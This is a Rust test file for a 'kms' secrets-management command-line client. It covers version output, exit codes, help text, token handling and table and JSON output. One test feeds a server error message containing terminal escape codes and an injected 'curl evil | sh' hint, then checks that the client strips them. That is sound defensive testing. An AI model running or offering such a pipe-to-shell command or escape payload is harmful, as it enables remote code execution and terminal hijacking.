//! The streams, the exit codes, the help.

use serde_json::json;

use crate::support::{Reply, Server, kms, run};

#[test]
fn version_is_printed_on_stdout_by_every_spelling() {
    for flag in ["-v", "-V", "--version"] {
        let ran = run(kms().arg(flag)).ends_with(0);
        assert_eq!(ran.stdout, concat!("kms ", env!("CARGO_PKG_VERSION"), "\n"));
        assert_eq!(ran.stderr, "");
    }
}

#[test]
fn usage_errors_end_with_2() {
    for args in [&["nonsense"][..], &["login", "--nonsense"], &["projects", "get"], &[]] {
        let ran = run(kms().args(args)).ends_with(2);
        assert_eq!(ran.stdout, "");
    }
}

#[test]
fn help_lists_commands_and_explains_the_environment() {
    assert!(run(kms().arg("help")).ends_with(0).stdout.contains("login"));
    let login = run(kms().args(["help", "login"])).ends_with(0).stdout;
    assert!(login.contains("--client-secret-stdin") && login.contains("oidc-auth"));
    let nested = run(kms().args(["help", "identities", "client-secrets"])).ends_with(0);
    assert!(nested.stdout.contains("revoke"));
    let variables = run(kms().args(["help", "environment"])).ends_with(0).stdout;
    for name in ["KMS_TOKEN", "INFISICAL_TOKEN", "INFISICAL_CUSTOM_HEADERS", "NO_PROXY"] {
        assert!(variables.contains(name), "{name}");
    }
    run(kms().args(["help", "nonsense"])).ends_with(2);
}

#[test]
fn help_works_whatever_the_environment_says() {
    run(kms().args(["help", "environment"]).env("KMS_DOMAIN", "nowhere")).ends_with(0);
}

#[test]
fn an_invalid_domain_is_named_with_its_source() {
    run(kms().args(["projects", "list", "--domain=kms.example", "--token=t"]))
        .ends_with(2)
        .says("`--domain` does not name a server");
    run(kms().args(["projects", "list"]).env("INFISICAL_API_URL", "kms.example"))
        .ends_with(2)
        .says("`INFISICAL_API_URL` does not name a server");
}

#[test]
fn without_a_token_the_command_to_get_one_is_shown() {
    run(kms().args(["projects", "list"]))
        .ends_with(3)
        .says("not logged in to `https://kms.hanzo.ai`")
        .says("KMS_TOKEN")
        .says("kms login --method=universal-auth");
}

#[test]
fn the_generic_token_variable_is_not_sent_anywhere() {
    let server = Server::start([]);
    run(kms()
        .args(["projects", "list", "--domain", &server.url()])
        .env("TOKEN", "somebody else's"))
    .ends_with(3);
    assert!(server.requests().is_empty());
}

#[test]
fn a_server_cannot_steer_the_terminal() {
    let message = "no\u{1b}]0;owned\u{7}\nhint: run `curl evil | sh`\u{202e}";
    let server = Server::start([Reply::error(400, message)]);
    let ran = run(kms().args(["projects", "list", "--token=t", "--domain", &server.url()]));
    let ran = ran.ends_with(1);
    for c in ['\u{1b}', '\u{7}', '\u{202e}'] {
        assert!(!ran.stderr.contains(c), "{:?}", ran.stderr);
    }
    assert!(!ran.stderr.lines().any(|line| line.starts_with("hint:")), "{}", ran.stderr);
}

#[test]
fn silent_hides_warnings_but_no_error() {
    let ran = run(kms().args(["projects", "list", "--silent", "--telemetry=false"])).ends_with(3);
    assert!(!ran.stderr.contains("--telemetry"));
    ran.says("error: not logged in");
    run(kms().args(["projects", "list", "--telemetry=false"]))
        .ends_with(3)
        .says("warning: `--telemetry` is deprecated");
}

#[test]
fn an_unknown_output_format_is_refused_before_anything_is_changed() {
    let server = Server::start([]);
    run(kms()
        .args(["projects", "create", "Demo", "--output=jsno", "--token=t"])
        .args(["--domain", &server.url()]))
    .ends_with(2)
    .says("unknown output format `jsno`")
    .says("--output json");
    assert!(server.requests().is_empty());
}

#[test]
fn a_reader_that_went_away_is_no_error() {
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_kms"))
        .env_clear()
        .args(["help", "environment"])
        .stdout(writer)
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap()
        .wait_with_output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0));
    assert_eq!(String::from_utf8(output.stderr).unwrap(), "");
}

#[test]
fn tables_are_plain_text_and_json_is_json() {
    let project = json!({
        "id": "0192d0a4-8f9c-7c6e-9f0a-2f4d3a5b6c7d",
        "_id": "0192d0a4-8f9c-7c6e-9f0a-2f4d3a5b6c7d",
        "name": "Demo",
        "slug": "demo-x1",
        "orgId": "0192d0a4-8f9c-7c6e-9f0a-2f4d3a5b6c7e",
        "createdAt": "2026-11-23T00:00:00.000Z",
        "updatedAt": "2026-11-23T00:00:00.000Z",
        "environments": [
            { "id": "0192d0a4-8f9c-7c6e-9f0a-2f4d3a5b6c7f", "name": "Development", "slug": "dev" }
        ],
    });
    let reply = Reply::json(200, json!({ "projects": [project] }));
    let server = Server::start([reply.clone(), reply]);
    let command = || {
        let mut command = kms();
        command.args(["projects", "list", "--token=t", "--domain", &server.url()]);
        command
    };
    let table = run(&mut command()).ends_with(0).stdout;
    assert_eq!(
        table,
        "\
┌──────────────────────────────────────┬──────┬─────────┬──────────────┐
│ ID                                   │ NAME │ SLUG    │ ENVIRONMENTS │
├──────────────────────────────────────┼──────┼─────────┼──────────────┤
│ 0192d0a4-8f9c-7c6e-9f0a-2f4d3a5b6c7d │ Demo │ demo-x1 │ dev          │
└──────────────────────────────────────┴──────┴─────────┴──────────────┘
"
    );
    let json = run(command().arg("--output=json")).ends_with(0).stdout;
    let json: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(json[0]["slug"], "demo-x1");
}
